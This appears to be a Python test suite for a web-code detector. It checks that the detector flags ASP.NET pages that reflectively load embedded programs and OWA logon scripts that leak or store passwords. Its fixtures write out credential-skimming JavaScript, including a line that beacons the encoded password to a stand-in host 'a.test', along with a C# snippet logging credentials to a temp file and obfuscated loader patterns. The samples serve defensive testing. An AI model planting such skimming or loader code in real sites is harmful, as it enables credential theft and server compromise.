"""Loaders that carry their program, and scripts and pages that keep what people type to log on. The samples are inert."""

import base64
import random
import time
from dataclasses import replace

import pytest
from web_pages import ASM, REQ, record, rules

from exhume.detectors.webcode import WebCode
from exhume.detectors.webcode.logonscript import handed_on

NOISE = bytes(random.Random(7).randrange(256) for _ in range(2400))
ARRAY = "new byte[] {" + ", ".join(f"0x{b:02x}" for b in NOISE) + "}"
PLAIN = "new byte[]{" + ",".join(str(b) for b in NOISE) + "}"
LETTERS = base64.b64encode(NOISE).decode()
HEAD = '<%@ Page Language="C#"%><script run' + 'at="server">void Page_Load(object o, EventArgs e){'
TAIL = "}</script>"
LOAD = ASM + ".Lo" + "ad"


def loader(made: str, run: str) -> str:
    return f"{HEAD}{made} var a = {LOAD}(d); {run}{TAIL}"


@pytest.mark.parametrize(
    "made",
    [
        f"byte[] d = {ARRAY}; for (int i = 0; i < d.Length; i++) d[i] ^= 0x5a;",
        f"byte[] d = {PLAIN};",
        f'byte[] d = Convert.FromBase64String("{LETTERS}");',
        f'byte[] d = Unhex("{NOISE.hex()}");',
    ],
)
@pytest.mark.parametrize(
    "run",
    [
        'a.CreateInstance("X").Equals(Context);',
        "a.EntryPoint.Invoke(null, null);",
        f'a.GetTypes()[0].GetMethod("R").Invoke(null, new[] {{ {REQ}["k"] }});',
    ],
)
def test_a_loader_with_its_program_in_it_is_told(made, run):
    assert "loads-program" in rules(loader(made, run))


@pytest.mark.parametrize(
    "page",
    [
        f"{HEAD}byte[] d = {ARRAY}; Response.BinaryWrite(d);{TAIL}",  # a picture that the page carries
        f'{HEAD}var p = Convert.FromBase64String("{LETTERS}"); Response.OutputStream.Write(p, 0, p.Length);{TAIL}',
        f'{HEAD}var a = {LOAD}("Contoso.Plugins"); a.CreateInstance("Contoso.Menu");{TAIL}',
        f'{HEAD}int[] table = new int[]{{{",".join(str(n % 250) for n in range(300))}}}; var a = {LOAD}("P"); a.CreateInstance("Q");{TAIL}',
        f'<%@ Page Language="C#"%><img src="data:image/png;base64,{LETTERS}"/><script run'
        + f'at="server">void P(){{ var a = {LOAD}("P"); a.CreateInstance("Q"); }}{TAIL[1:]}',
    ],
)
def test_data_and_plugins_are_not(page):
    assert "loads-program" not in rules(page)


FLOGON = """
function gbid(s) { return document.getElementById(s); }
function clkLgn() {
    if (gbid("rdoPrvt").checked) {
        var oD = new Date();
        oD.setTime(oD.getTime() + 2 * 7 * 24 * 60 * 60 * 1000);
        var sA = "acc=" + (gbid("chkBsc") && gbid("chkBsc").checked ? 1 : 0);
        var sL = "lgn=" + gbid("username").value;
        document.cookie = "logondata=" + sA + "&" + sL + "; expires=" + oD.toUTCString();
    }
    if (gbid("showPasswordCheck").checked) {
        passwordElement = gbid("passwordText");
        gbid("password").value = passwordElement.value;
        passwordElement.value = "";
    }
    document.cookie = "PBack=0; path=/";
    %s
    document.logonForm.submit();
}
function shPwd() { var p = gbid("password"); p.style.display = "none"; p.focus(); p.onkeypress = capsCheck; }
"""


def in_log_on(text, name="flogon.js"):
    found = record(text, name)
    url = f"/owa/auth/15.1.2507/scripts/premium/{name}"
    return {f.rule.removeprefix("webcode.") for f in WebCode().detect(replace(found, fields={**found.fields, "url": url}))}


@pytest.mark.parametrize(
    "added",
    [
        'var x = new XMLHttpRequest(); x.open("POST", "/owa/auth/errorFE.aspx", true); x.send("u=" + gbid("username").value + "&p=" + gbid("password").value);',
        'var d = "u=" + gbid("username").value + "&p=" + gbid("password").value; var x = new XMLHttpRequest(); x.open("POST", "/a", 1); x.send(d);',
        'var q = document.logonForm.password.value; var b = btoa(q); new Image().src = "https://a.test/i.gif?" + b;',
        'fetch("/owa/auth/x.aspx", {method: "POST", body: JSON.stringify({p: document.getElementById("password").value})});',
        '$.ajax({url: "/x", data: {\n p: $("#password").val()\n}});',
        'var f = new FormData(document.logonForm); navigator.sendBeacon("/x", f);',
    ],
)
def test_a_log_on_script_that_sends_the_password_is_told(added):
    assert in_log_on(FLOGON % added) == {"sends-password"}
    page = '<%@ Page Language="C#" %><html><script>' + (FLOGON % added) + "</script></html>"
    assert "sends-password" in in_log_on(page, "logon.aspx")


def test_one_that_keeps_it_is_told_as_likely():
    assert in_log_on(FLOGON % 'var p = gbid("password").value; document.cookie = "t=" + escape(p);') == {"keeps-password"}


@pytest.mark.parametrize(
    "added",
    [
        "",
        'if (gbid("password").value == "") { return; }',
        'var n = gbid("password").value.length; var x = new XMLHttpRequest(); x.open("GET", "/owa/auth/ping"); x.send("n=" + n);',
        'var x = new XMLHttpRequest(); x.open("POST", "/owa/auth/captcha"); x.send("r=" + grecaptcha.getResponse());',
        'document.cookie = "user=" + gbid("username").value;',
        'window.location.href = "/owa/auth/expiredpassword.aspx?url=" + encodeURIComponent(u);',
    ],
)
def test_what_log_on_pages_do_is_not(added):
    assert in_log_on(FLOGON % added) == set()
    assert in_log_on('<%@ Page Language="C#" %><html><script>' + (FLOGON % added) + "</script></html>", "logon.aspx") == set()


def test_other_applications_send_it_as_they_like():
    assert rules(FLOGON % 'var x = new XMLHttpRequest(); x.send(gbid("password").value);', "app.js") == set()


def test_a_page_that_files_passwords_is_told():
    write = f'System.IO.File.AppendAllText(@"C:\\Windows\\Temp\\a.log", {REQ}.Form["username"] + ":" + {REQ}.Form["password"]);'
    assert rules(f"{HEAD}{write}{TAIL}") == {"keeps-password"}
    other = f'System.IO.File.AppendAllText(@"C:\\logs\\a.log", {REQ}.Form["subject"]);'
    assert rules(f"{HEAD}{other}{TAIL}") == set()


@pytest.mark.parametrize(
    "hostile",
    [
        'gbid("password")' * 40_000,
        "a=b;" * 200_000,
        "var a=" * 150_000,
        "x.send(" * 100_000 + 'gbid("password")',
        ('p%d=gbid("password");' * 20_000) % tuple(range(20_000)),
    ],
)
def test_hostile_scripts_are_quick(hostile):
    start = time.thread_time()
    list(handed_on(hostile))
    assert time.thread_time() - start < 10
